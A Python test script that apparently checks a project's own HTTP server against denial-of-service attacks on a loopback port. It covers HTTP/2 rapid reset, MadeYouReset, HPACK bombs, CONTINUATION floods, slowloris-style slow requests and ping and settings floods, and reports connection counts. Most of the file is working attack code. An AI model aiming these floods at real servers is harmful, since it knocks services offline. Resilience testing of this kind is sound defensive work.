# SPDX-License-Identifier: EUPL-1.2
"""Clients that mean harm, one function an attack: each goes on against a loopback port until its time is over.

    attacks.py NAME PORT SECONDS [--tls] [--from ADDRESS]

prints what it did: connections opened, and how many of them the server ended."""
import argparse
import json
import resource
import socket
import ssl
import struct
import sys
import threading
import time

import frames as h2

SLOW_EACH_SECOND = 1
STREAMS = 100


class Attacker:
    """Opens connections and counts their ends."""

    def __init__(self, port, seconds, tls=False, source=None):
        self.port, self.tls = port, tls
        self.sources = [source] if source else []  # of connections, in turn
        self.deadline = time.monotonic() + seconds
        self.opened = self.ended = self.sent_bytes = 0

    def on(self):
        return time.monotonic() < self.deadline

    def pace(self, seconds):
        """Does nothing for so long: a slow attacker's own speed, and no condition to wait for."""
        threading.Event().wait(min(seconds, max(0, self.deadline - time.monotonic())))

    def dial(self, alpn="h2", receive_bytes=None):
        plain = socket.socket()
        plain.settimeout(2)
        if receive_bytes:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        if self.sources:
            plain.bind((self.sources[self.opened % len(self.sources)], 0))
        plain.connect(("127.0.0.1", self.port))
        self.opened += 1
        if not self.tls:
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([alpn])
        return context.wrap_socket(plain)

    def flood(self, make, first=b"", alpn="h2", read=True):
        """Connection after connection, each fed with make(n) for n = 0, 1, … until the server ends it."""
        while self.on():
            try:
                with self.dial(alpn) as connection:
                    self._feed(connection, make, first, read)
            except OSError:
                self.ended += 1

    def _feed(self, connection, make, first, read):
        connection.sendall(first)
        n = 0
        while self.on():
            data = make(n)
            if data is None:
                return
            connection.sendall(data)
            self.sent_bytes += len(data)
            n += 1
            if read:
                swallow(connection)

    def abort(self, first, alpn="h2"):
        """Connection after connection, each broken as soon as that is said."""
        while self.on():
            connection = self.dial(alpn)
            try:
                connection.sendall(first)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            except OSError:
                self.ended += 1
            connection.close()

    def hold(self, count, first, more=None, alpn="h2", receive_bytes=None):
        """Keeps that many connections open, and sends more() on each every second. Those that are ended are not
        replaced before all are."""
        while self.on():
            held = []
            for _ in range(count):
                if not self.on():
                    break
                try:
                    connection = self.dial(alpn, receive_bytes)
                    connection.sendall(first)
                    held.append(connection)
                except OSError:
                    self.ended += 1
            while held and self.on():
                self.pace(SLOW_EACH_SECOND)
                held = [connection for connection in held if self._still_there(connection, more)]
            for connection in held:
                connection.close()

    def _still_there(self, connection, more):
        try:
            if more:
                connection.sendall(more())
            else:
                connection.settimeout(0)
                if connection.recv(1, 0 if self.tls else socket.MSG_PEEK) == b"":
                    raise ConnectionResetError
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        except OSError:
            connection.close()
            self.ended += 1
            return False
        return True


def swallow(connection):
    """Reads what is there, without waiting; the end of the stream is an error."""
    connection.settimeout(0)
    try:
        while True:
            if not connection.recv(65536):
                raise ConnectionResetError
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(2)


def streams(n, count=STREAMS):
    """The n-th hundred of a client's stream numbers."""
    return range(2 * count * n + 1, 2 * count * (n + 1) + 1, 2)


def rapid_reset(attacker):
    """CVE-2023-44487: a request, and its end before it is answered."""
    def make(n):
        return b"".join(h2.beacon(s) + h2.frame(h2.RST_STREAM, s, struct.pack(">I", 8)) for s in streams(n))
    attacker.flood(make, h2.hello())


def rapid_reset_unknown(attacker):
    """The same with requests that are answered at once."""
    block = h2.fields("GET", "/nothing")

    def make(n):
        return b"".join(h2.request(s, block) + h2.frame(h2.RST_STREAM, s, struct.pack(">I", 8)) for s in streams(n))
    attacker.flood(make, h2.hello())


def made_you_reset(attacker):
    """CVE-2025-8671: the server is made to reset the stream itself."""
    def make(n):
        return b"".join(h2.beacon(s) + h2.frame(h2.WINDOW_UPDATE, s, bytes(4)) for s in streams(n))
    attacker.flood(make, h2.hello())


def hpack_bomb(attacker):
    """One byte a reference to a field of 4,000; requests that never end."""
    references = bytes([0x80 | 62]) * 16384

    def make(n):
        if n >= STREAMS - 1:
            return None
        first = h2.BEACON_FIELDS + (h2.literal("x-bomb", "b" * 4000, indexed=True) if n == 0 else b"")
        parts = [h2.frame(h2.HEADERS, 2 * n + 1, first)]
        parts += [h2.frame(h2.CONTINUATION, 2 * n + 1, references) for _ in range(24)]
        return b"".join(parts) + h2.frame(h2.CONTINUATION, 2 * n + 1, b"", h2.END_HEADERS)
    attacker.flood(make, h2.hello())


def reset_abort(attacker):
    """Requests of both kinds on their way when the connection breaks: at other stream limits an assertion of the
    library."""
    other = h2.fields("GET", "/nothing")
    mixed = b"".join(h2.beacon(s) if s % 4 == 1 else h2.request(s, other) for s in streams(0))
    attacker.abort(h2.hello() + mixed)


def upgrade_abort(attacker):
    """A beacon that asks for HTTP/2 in clear, and a connection that breaks at once."""
    attacker.abort((f"POST /balise/b HTTP/1.1\r\nHost: x\r\nOrigin: {h2.ORIGIN}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                    f"HTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: {len(h2.BEACON)}\r\n\r\n").encode() + h2.BEACON, "http/1.1")


def zero_window(attacker):
    """Asks, and never lets the answers go."""
    asked = b"".join(h2.request(s, h2.NOTICE_FIELDS) for s in streams(0))
    attacker.hold(200, h2.hello((h2.INITIAL_WINDOW_SIZE, 0)) + asked,
                  lambda: h2.frame(h2.PING, 0, bytes(8)))


def no_reading(attacker):
    """HTTP/1.1 requests back to back, and no answer is read."""
    asked = b"GET /balise/privacy HTTP/1.1\r\nHost: x\r\n\r\n" * 400
    attacker.hold(200, asked, alpn="http/1.1", receive_bytes=4096)


def slow_headers(attacker):
    attacker.hold(400, b"POST /balise/b HTTP/1.1\r\nHost: x\r\nx-slow: ", lambda: b"a", alpn="http/1.1")


def slow_body(attacker):
    head = f"POST /balise/b HTTP/1.1\r\nHost: x\r\nOrigin: {h2.ORIGIN}\r\nContent-Length: 4000\r\n\r\n"
    attacker.hold(400, head.encode(), lambda: b" ", alpn="http/1.1")


def slow_streams(attacker):
    """A hundred unfinished requests a connection, a byte of one of them each second."""
    opened = b"".join(h2.frame(h2.HEADERS, s, h2.BEACON_FIELDS, h2.END_HEADERS) for s in streams(0))
    attacker.hold(200, h2.hello() + opened, lambda: h2.frame(h2.DATA, 1, b" "))


def big_bodies(attacker):
    """As much unfinished body as the server takes on each stream."""
    body = b" " * 16000

    def make(n):
        if n >= STREAMS:
            attacker.pace(0.05)
            return h2.frame(h2.PING, 0, bytes(8))
        return (h2.frame(h2.HEADERS, 2 * n + 1, h2.BEACON_FIELDS, h2.END_HEADERS)
                + h2.frame(h2.DATA, 2 * n + 1, body) * 4)
    connections = []
    while attacker.on():
        try:
            connection = attacker.dial()
            connection.sendall(h2.hello() + b"".join(make(n) for n in range(STREAMS)))
            swallow(connection)
            connections.append(connection)
        except OSError:
            attacker.ended += 1
        if len(connections) >= 100:
            attacker.pace(0.1)
            connections = [c for c in connections if attacker._still_there(c, None)]  # pylint: disable=protected-access


def few_bodies(attacker):
    """The same of many connections, none of which has many, from two networks."""
    attacker.sources.append("127.0.3.1")
    body = b" " * 16000
    begun = b"".join(h2.frame(h2.HEADERS, s, h2.BEACON_FIELDS, h2.END_HEADERS) + h2.frame(h2.DATA, s, body) * 4 for s in streams(0, 6))
    attacker.hold(1800, h2.hello() + begun)


def oversized(attacker):
    """Bodies far above what is taken, again and again."""
    body = b" " * 16000
    attacker.flood(lambda n: h2.frame(h2.HEADERS, 2 * n + 1, h2.BEACON_FIELDS, h2.END_HEADERS)
                   + h2.frame(h2.DATA, 2 * n + 1, body) * 8, h2.hello())


def whole_bodies(attacker):
    """Whole requests with bodies of 48 KB, as fast as they go."""
    body = b" " * 16000
    attacker.flood(lambda n: h2.frame(h2.HEADERS, 2 * n + 1, h2.BEACON_FIELDS, h2.END_HEADERS) + h2.frame(h2.DATA, 2 * n + 1, body) * 2
                   + h2.frame(h2.DATA, 2 * n + 1, body, h2.END_STREAM), h2.hello())


def continuation_flood(attacker):
    """A header block without an end."""
    start = h2.frame(h2.HEADERS, 1, h2.BEACON_FIELDS)
    part = (h2.frame(h2.CONTINUATION, 1, h2.literal("x-more", "m" * 4000)) + h2.frame(h2.CONTINUATION, 1)) * 4
    attacker.flood(lambda n: start if n == 0 else part, h2.hello())


def empty_continuations(attacker):
    start = h2.frame(h2.HEADERS, 1, h2.BEACON_FIELDS)
    part = h2.frame(h2.CONTINUATION, 1) * 2000
    attacker.flood(lambda n: start if n == 0 else part, h2.hello())


def ping_flood(attacker):
    attacker.flood(lambda n: h2.frame(h2.PING, 0, bytes(8)) * 1000, h2.hello(), read=False)


def settings_flood(attacker):
    attacker.flood(lambda n: h2.settings((h2.INITIAL_WINDOW_SIZE, n % 65536)) * 1000, h2.hello(), read=False)


def priority_flood(attacker):
    part = b"".join(h2.frame(h2.PRIORITY, 1, struct.pack(">IB", 0, n % 256)) for n in range(1000))
    attacker.flood(lambda n: part, h2.hello() + h2.request(1, h2.NOTICE_FIELDS))


def unknown_frames(attacker):
    """Frames of types that nobody knows (RFC 9113, 5.5: to be ignored)."""
    attacker.flood(lambda n: b"".join(h2.frame(kind, 0, b"x") for kind in range(16, 216)) * 5, h2.hello())


def crowd(attacker):
    """Many idle connections."""
    attacker.hold(900, b"", alpn="http/1.1")


def garbage(attacker):
    """Bytes that are no protocol, after a good beginning."""
    noise = bytes(range(256)) * 16
    attacker.flood(lambda n: noise if n else h2.beacon(1), h2.hello())


ATTACKS = {function.__name__: function for function in (
    rapid_reset, rapid_reset_unknown, made_you_reset, hpack_bomb, reset_abort, upgrade_abort, zero_window, no_reading, slow_headers, slow_body,
    slow_streams, big_bodies, few_bodies, whole_bodies, oversized, continuation_flood, empty_continuations, ping_flood, settings_flood,
    priority_flood, unknown_frames, crowd, garbage)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--from", dest="source")
    chosen = parser.parse_args()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4096), most))
    attacker = Attacker(chosen.port, chosen.seconds, chosen.tls, chosen.source)
    try:
        ATTACKS[chosen.name](attacker)
    except OSError as error:  # a server that has gone is for the probe to tell
        print(error, file=sys.stderr)
    print(json.dumps({"opened": attacker.opened, "ended": attacker.ended}))


if __name__ == "__main__":
    main()
